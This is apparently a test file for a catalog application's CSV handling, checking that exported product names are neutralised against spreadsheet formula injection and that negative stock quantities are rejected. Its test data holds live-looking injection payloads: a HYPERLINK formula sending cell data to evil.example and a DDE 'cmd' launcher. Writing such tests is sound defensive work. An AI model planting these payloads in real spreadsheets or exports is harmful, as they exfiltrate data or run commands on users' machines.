/**
 * CSV in and out of the catalog: the export cannot smuggle a spreadsheet formula out of a product
 * name, and the import refuses a source quantity exactly as the API does.
 */
import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { importProductsCsv, importSourceItemsCsv } from '../../src/catalog/import/index';
import { as, buildTestApp, type TestApp } from '../helpers/app';
import { seedCatalog, type SeededCatalog } from './catalog-seed';

const csv = (text: string) => Readable.from([text]);

describe('catalog CSV safety', () => {
  let t: TestApp;
  let seed: SeededCatalog;
  let manager: ReturnType<typeof as>;
  before(async () => {
    t = await buildTestApp();
    seed = await seedCatalog(t.db.knex);
    manager = as(t.app, t.managerCookie);
  });
  after(async () => t.close());

  it('exports text that a spreadsheet would run as a formula with a leading quote, and numbers as numbers', async () => {
    const names: Record<string, string> = {
      'BAG-1': '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
      LAMP: "+1+cmd|' /C calc'!A0",
      MUG: '-2+3',
      'TEE-RED-S': '@SUM(1,2)',
      'TEE-BLUE-M': '\tTabbed',
      KIT: '\rReturn',
    };
    for (const [sku, name] of Object.entries(names)) await t.db.knex('products').where({ sku }).update({ name });
    // A negative salable quantity (a reservation beyond the stock) and a plain price stay numbers.
    const held = await manager({
      method: 'POST',
      url: '/api/catalog/reservations',
      payload: { sku: 'MUG', stockId: seed.stocks.main, quantity: -3, reason: 'order', reference: 'csv-test' },
    });
    assert.equal(held.statusCode, 201, held.body);

    const res = await manager({ method: 'GET', url: '/api/catalog/products.csv?sort=sku' });
    assert.equal(res.statusCode, 200, res.body);
    const rows = new Map((parse(res.body, { columns: true }) as Record<string, string>[]).map((r) => [r.sku, r]));
    for (const [sku, name] of Object.entries(names)) assert.equal(rows.get(sku)?.name, `'${name}`, sku);
    assert.equal(rows.get('MUG')?.salable_qty, '-3', 'a negative number is not text');
    assert.equal(rows.get('MUG')?.price, '8');
    assert.equal(rows.get('BAG-1')?.websites, 'base,eu');
    assert.equal(rows.get('BAG-1')?.sku, 'BAG-1', 'harmless text as it is');
  });

  it('refuses a negative source quantity with one message from the API and both CSV imports', async () => {
    const put = await manager({
      method: 'PUT',
      url: `/api/catalog/products/${seed.products['TEE-BLUE-M']}/source-items/wh_a`,
      payload: { quantity: -5, inStock: true },
    });
    assert.equal(put.statusCode, 400);
    const [field] = put.json().error.details.fields as { field: string; message: string }[];
    assert.equal(field?.field, 'body.quantity');
    const message = field!.message;

    const sources = await importSourceItemsCsv(t.db.knex, csv('source_code,sku,status,quantity\nwh_a,TEE-BLUE-M,1,-5\nwh_a,BAG-1,1,12\n'));
    assert.deepEqual(
      sources.errors.map((e) => e.reason),
      [`quantity: ${message}`],
    );
    assert.equal(sources.updated + sources.imported, 1, 'the valid row is still imported');

    const products = await importProductsCsv(t.db.knex, csv('sku,qty\nTEE-BLUE-M,-5\n'));
    assert.deepEqual(
      products.errors.map((e) => e.reason),
      [`qty: ${message}`],
    );
    const stored = await t.db.knex('source_items').where({ sku: 'TEE-BLUE-M' }).pluck('quantity');
    assert.ok(
      stored.every((q: number) => Number(q) >= 0),
      `stored ${stored.join(',')}`,
    );
  });

  it('accepts the bounds themselves on both paths', async () => {
    const put = await manager({
      method: 'PUT',
      url: `/api/catalog/products/${seed.products['TEE-BLUE-M']}/source-items/wh_a`,
      payload: { quantity: 0, inStock: false },
    });
    assert.equal(put.statusCode, 200, put.body);
    const tooMuch = await manager({
      method: 'PUT',
      url: `/api/catalog/products/${seed.products['TEE-BLUE-M']}/source-items/wh_a`,
      payload: { quantity: 100_000_000, inStock: true },
    });
    assert.equal(tooMuch.statusCode, 400);
    const imported = await importSourceItemsCsv(t.db.knex, csv('source_code,sku,status,quantity\nwh_a,TEE-BLUE-M,1,99999999\n'));
    assert.deepEqual(imported.errors, []);
  });
});
